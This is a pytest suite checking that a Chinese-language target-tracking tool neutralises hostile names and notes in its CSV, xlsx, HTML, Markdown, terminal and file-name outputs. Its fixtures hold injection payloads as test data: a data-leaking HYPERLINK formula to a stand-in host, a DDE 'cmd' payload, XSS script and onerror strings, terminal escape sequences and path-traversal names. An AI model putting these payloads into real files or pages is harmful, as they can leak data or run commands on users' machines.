"""Output safety everywhere (issue 8): whatever the plan's names and the counties' notes hold, no CSV cell or
workbook cell becomes a formula, no HTML becomes markup, no Markdown table loses its columns, nothing printed
carries a control character, and no file name made from an id leaves its folder.

One hostile workspace (the corpus workspace with names and notes that are formulas, markup, Markdown and terminal
escapes) goes through every writer: gaps in CSV and Markdown, the scoreboard CSV, the four report files, the
drafts in Markdown and HTML, and the forms in CSV and xlsx.
"""

from __future__ import annotations

import io
import shutil
from pathlib import Path

import pytest

from conftest import FIXTURES
from mubiao.errors import WorkspaceError
from output_safety import (
    assert_printable,
    assert_safe_csv,
    assert_safe_html,
    assert_safe_markdown,
    assert_safe_xlsx,
)

WORKSPACE = FIXTURES / "bad" / "workspace"

#: Replacements in the workspace plan: names a spreadsheet would run, markup, Markdown, control characters.
HOSTILE_NAMES = [
    ('title = "2021年示范市民政工作要点"', 'title = "要点<script>alert(1)</script> | # 标题"'),
    ('name = "东区"', 'name = "=HYPERLINK(\\"http://x.invalid\\",\\"东区\\")"'),
    ('name = "西区"', 'name = "+西区|<b>粗</b>\\n| 伪 | 行 |"'),
    ('name = "北区"', 'name = "@北区\\u001b[2J"'),
    ('name = "新建示范型居家养老服务中心"', 'name = "-2+3 中心 <img src=x onerror=alert(1)> `code` [a](javascript:x)"'),
    ('unit = "个"', 'unit = "\\t=1+1"'),
]
#: East's June notes (G02-centres lags, so its note is in the report): formulas, markup, Markdown, escapes.
HOSTILE_NOTES = {
    "G01-dibao": '=HYPERLINK("http://x.invalid/?"&A1,"点此")',
    "G01-cover": "<script>alert(document.cookie)</script>",
    "G01-review": "| 伪造 | 表格 |\n|---|---|",
    "G02-centres": "\x1b[31m红字\x1b[0m </td><iframe src=//x.invalid> @SUM(1) \r=1+1",
    "G02-carers": "-2+3+cmd|' /C calc'!A0",
    "G02-pilot": "\t=1+1 `x` **粗**",
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    import csv

    root = tmp_path_factory.mktemp("hostile") / "workspace"
    shutil.copytree(WORKSPACE, root)
    plan = root / "targets" / "demo.toml"
    text = plan.read_text(encoding="utf-8")
    for old, new in HOSTILE_NAMES:
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    plan.write_text(text, encoding="utf-8")
    figures = {"G01-dibao": "10800", "G01-cover": "", "G01-review": "是", "G02-centres": "12", "G02-carers": "",
               "G02-pilot": "1"}
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["指标编号", "完成值", "分子", "分母", "备注"])
    parts = {"G01-cover": ["920", "960"], "G02-carers": ["15", "1500"]}
    for indicator, note in HOSTILE_NOTES.items():
        writer.writerow([indicator, figures[indicator], *parts.get(indicator, ["", ""]), note])
    (root / "data" / "demo" / "2021-06" / "east.csv").write_bytes(buffer.getvalue().encode("utf-8"))
    return root


def run_ok(cli, *args):
    result = cli(*args)
    assert result.exit_code == 0, result.output
    assert_printable(result.output, " ".join(map(str, args[:2])))
    return result


def test_every_csv_written_keeps_formulas_as_text(cli, hostile, tmp_path):
    run_ok(cli, "gaps", "--root", hostile, "--format", "csv", "-o", tmp_path / "gaps.csv")
    run_ok(cli, "gaps", "--root", hostile, "--by", "county", "--format", "csv", "-o", tmp_path / "counties.csv")
    run_ok(cli, "form", "--root", hostile, "--period", "2021-07", "--format", "csv", "-o", tmp_path / "forms")
    written = [tmp_path / "gaps.csv", tmp_path / "counties.csv", *sorted((tmp_path / "forms").glob("*.csv"))]
    assert len(written) == 6  # east, west, north and the city's form
    for path in written:
        assert_safe_csv(path.read_bytes(), path.name)
    counties = (tmp_path / "counties.csv").read_bytes().decode("utf-8-sig")
    assert "'=HYPERLINK" in counties and "'+西区" in counties and "'@北区" in counties
    assert "'-2+3 中心" in (tmp_path / "gaps.csv").read_bytes().decode("utf-8-sig")


def test_every_workbook_keeps_text_as_text(cli, hostile, tmp_path):
    from openpyxl import load_workbook

    run_ok(cli, "report", "--root", hostile, "-o", tmp_path / "report")
    run_ok(cli, "form", "--root", hostile, "--period", "2021-07", "-o", tmp_path / "forms")
    books = [tmp_path / "report" / "gaps.xlsx", *sorted((tmp_path / "forms").glob("*.xlsx"))]
    assert len(books) == 5
    for path in books:
        assert_safe_xlsx(path.read_bytes(), path.name)
    cells = [cell for sheet in load_workbook(books[0]) for row in sheet.iter_rows() for cell in row]
    hyperlink = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert hyperlink and all(c.quotePrefix for c in hyperlink), "text that looks like a formula keeps Excel's quote"
    assert not [c for c in cells if isinstance(c.value, str) and "\x1b" in c.value], "no control character"
    form = load_workbook(tmp_path / "forms" / "east.xlsx").active
    assert form["A4"].value.startswith("=HYPERLINK") and form["A4"].data_type == "s" and form["A4"].quotePrefix


def test_every_page_shows_markup_as_text(cli, hostile, tmp_path):
    run_ok(cli, "report", "--root", hostile, "-o", tmp_path / "report")
    run_ok(cli, "summary", "--root", hostile, "--county", "east", "--format", "html", "-o", tmp_path / "east.html")
    for path in (tmp_path / "report" / "report.html", tmp_path / "east.html"):
        page = path.read_text(encoding="utf-8")
        assert_safe_html(page, path.name)
        assert "&lt;script&gt;" in page or "&lt;img" in page, f"{path.name}: the markup should be there, as text"
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in (tmp_path / "east.html").read_text(encoding="utf-8")


def test_every_markdown_table_keeps_its_columns(cli, hostile, tmp_path):
    run_ok(cli, "report", "--root", hostile, "-o", tmp_path / "report")
    run_ok(cli, "gaps", "--root", hostile, "--format", "md", "-o", tmp_path / "gaps.md")
    run_ok(cli, "gaps", "--root", hostile, "--by", "county", "--format", "md", "-o", tmp_path / "counties.md")
    run_ok(cli, "summary", "--root", hostile, "--county", "east", "--format", "md", "-o", tmp_path / "east.md")
    for path in (tmp_path / "report" / "report.md", tmp_path / "gaps.md", tmp_path / "counties.md",
                 tmp_path / "east.md"):
        assert_safe_markdown(path.read_text(encoding="utf-8"), path.name)
    report = (tmp_path / "report" / "report.md").read_text(encoding="utf-8")
    assert "\\| 伪 \\| 行 \\|" in report and "&lt;img" in report


def test_nothing_printed_carries_a_control_character(cli, hostile):
    for args in (["gaps"], ["gaps", "--by", "county"], ["gaps", "--format", "md"], ["show", "G02-centres"],
                 ["check"], ["summary", "--county", "east", "--format", "md", "-o", "-"]):
        result = run_ok(cli, *args, "--root", hostile)
        assert "\x1b" not in result.output
    shown = run_ok(cli, "show", "G02-centres", "--root", hostile).output
    assert "␛[31m红字␛[0m" in shown, "a note's escape is shown, not obeyed"


# --- the helpers every writer uses ----------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_starts_a_formula_gets_a_quote(start):
    from mubiao.render.cells import neutralise_formula

    assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"
    assert neutralise_formula("东区 = 1") == "东区 = 1"


def test_a_csv_cell_has_no_control_characters():
    from mubiao.render.cells import neutralise_formula

    assert neutralise_formula("a\x00b\x1b[2Jc\x7f\x85") == "ab[2Jc"
    assert neutralise_formula("\x01=1+1") == "'=1+1", "a control character in front hides no formula"


def test_a_markdown_cell_is_one_cell_on_one_line():
    from mubiao.render.cells import md_cell, md_table

    cell = md_cell("a | b\n| c | d |\x1b[2J <img> `x` [y](z)")
    assert "\n" not in cell and "\x1b" not in cell and "<" not in cell
    assert cell.count("|") == cell.count("\\|") == 4
    header, rule, row, _ = md_table(["x", "y"], [[cell, "z"]])
    assert row.count(" | ") == header.count(" | ")


def test_what_the_terminal_shows_of_a_control_character():
    from mubiao.console import printable

    assert printable("a\x1b[2Jb\x07c\x00d\x7fe\x85f") == "a␛[2Jb␇c␀d␡e\ufffdf"
    assert printable("line\r\nnext\tcolumn\n") == "line\r\nnext\tcolumn\n", "CSV line ends and tabs stay"
    assert printable("over\rwrite") == "over␍write"


def test_an_error_message_is_one_printable_line(capsys):
    from mubiao import console

    console.error("file\x1b]0;pwned\x07.csv:3: D120 “\x1b[2J”\nnot a number")
    printed = capsys.readouterr().err
    assert printed.count("\n") == 1 and "\x1b" not in printed and "␛]0;pwned" in printed


@pytest.mark.parametrize("name", ["../x.xlsx", "a/b.xlsx", "a\\b.csv", "..", "", "con.xlsx", "NUL", "com1.csv",
                                  "lpt9", "x\x00.csv", "x\n.csv", "c:x.csv"])
def test_a_file_named_after_an_id_stays_in_its_folder(name, tmp_path):
    from mubiao.io import file_in

    with pytest.raises(WorkspaceError):
        file_in(tmp_path, name)


@pytest.mark.parametrize("name", ["east.xlsx", "summary-con.docx", "console.csv", "city.xlsx", "wucheng.csv"])
def test_a_plain_file_name_is_taken(name, tmp_path):
    from mubiao.io import file_in

    assert file_in(tmp_path, name) == tmp_path / name
